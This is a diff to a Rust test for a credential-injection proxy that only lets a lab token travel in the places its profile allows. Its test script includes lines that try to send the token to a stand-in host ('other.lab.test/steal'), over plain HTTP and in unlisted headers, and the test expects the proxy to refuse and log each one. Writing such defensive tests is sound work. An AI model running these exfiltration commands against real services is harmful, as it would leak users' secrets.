@@ -29,7 +29,10 @@ network_policies:
 
 const PROFILE: &str = "id: lab
 credentials:
-  - {name: token, env_vars: [LAB_TOKEN], required: true}
+  - {name: token, env_vars: [LAB_TOKEN], required: true, auth_style: bearer}
+  - {name: token in the query, env_vars: [LAB_TOKEN], auth_style: query, query_param: key}
+  - {name: token in the path, env_vars: [LAB_TOKEN], auth_style: path, path_template: '/bot{token}/**'}
+  - {name: minted, env_vars: [MINTED_TOKEN], auth_style: header, header_name: X-Minted}
 endpoints:
   - {host: api.lab.test, port: 443}
   - {host: body.lab.test, port: 443}
@@ -47,7 +50,11 @@ echo "query $(ask "https://api.lab.test/query?a=1&key=$LAB_TOKEN")"
 echo "path $(ask "https://api.lab.test/bot$LAB_TOKEN/send")"
 echo "minted $(ask -H "X-Minted: $MINTED_TOKEN" https://api.lab.test/minted)"
 echo "body $(ask --json "{\"token\":\"$LAB_TOKEN\"}" https://body.lab.test/json)"
-echo "bare $(env -u HTTPS_PROXY -u https_proxy -u ALL_PROXY -u all_proxy curl -sS --max-time 20 -H "X-Bare: $LAB_TOKEN" https://api.lab.test/bare)"
+echo "bare $(env -u HTTPS_PROXY -u https_proxy -u ALL_PROXY -u all_proxy curl -sS --max-time 20 -H "Authorization: Bare $LAB_TOKEN" https://api.lab.test/bare)"
+echo "other-header $(ask -H "X-Echo: $LAB_TOKEN" https://api.lab.test/echo)"
+echo "other-query $(ask "https://api.lab.test/echo?text=$LAB_TOKEN")"
+echo "other-path $(ask "https://api.lab.test/echo/$LAB_TOKEN")"
+echo "unencrypted $(ask -H "Authorization: Bearer $LAB_TOKEN" http://api.lab.test:443/plain)"
 echo "elsewhere $(ask -H "Authorization: Bearer $LAB_TOKEN" https://other.lab.test/steal)"
 echo "elsewhere-query $(ask "https://other.lab.test/steal?key=$LAB_TOKEN")"
 echo "elsewhere-body $(ask -d "$LAB_TOKEN" https://other.lab.test/steal)"
@@ -121,7 +128,7 @@ fn used_and_never_held(who: Who) {
     assert!(fs::read_to_string(world.path("minted")).unwrap().lines().count() >= 1);
 }
 
-/// What was bound came to the server with the value in it, in every place of a request.
+/// The server received the value in every part of a request that the profile names.
 fn arrived(report: &str, received: &[u8]) {
     for name in ["header", "basic", "query", "path", "minted", "body", "bare"] {
         assert!(report.contains(&format!("{name} reached ")), "{name}: {report}");
@@ -135,7 +142,7 @@ fn arrived(report: &str, received: &[u8]) {
         format!("/bot{VALUE}/send"),
         format!("X-Minted: {MINTED}"),
         format!("{{\"token\":\"{VALUE}\"}}"),
-        format!("X-Bare: {VALUE}"),
+        format!("Authorization: Bare {VALUE}"),
     ] {
         assert!(contains(received, &part), "{part} did not arrive: {text}");
     }
@@ -144,9 +151,13 @@ fn arrived(report: &str, received: &[u8]) {
     elsewhere.for_each(|request| assert!(!request.contains("lab-secret"), "{request}"));
 }
 
-/// What was not bound was refused with words, and is a finding.
+/// Everything else was refused with a reason, and is a finding.
 fn refused(report: &str, directory: &Path) {
     for (name, code) in [
+        ("other-header", "may not be in the header `X-Echo`"),
+        ("other-query", "may not be in the query parameter `text`"),
+        ("other-path", "may not be in the path"),
+        ("unencrypted", "not sent without TLS"),
         ("elsewhere", "credential_endpoint_mismatch"),
         ("elsewhere-query", "credential_endpoint_mismatch"),
         ("elsewhere-body", "credential_injection_failed"),
@@ -157,7 +168,7 @@ fn refused(report: &str, directory: &Path) {
         assert!(line.contains(code), "{line}");
     }
     let findings = events(directory).into_iter().filter(|event| event["rule"] == "misplaced_credential");
-    assert_eq!(findings.count(), 5);
+    assert_eq!(findings.count(), 9);
 }
 
 /// Neither inside (environments and arguments of all processes are among the files that were searched there) nor in
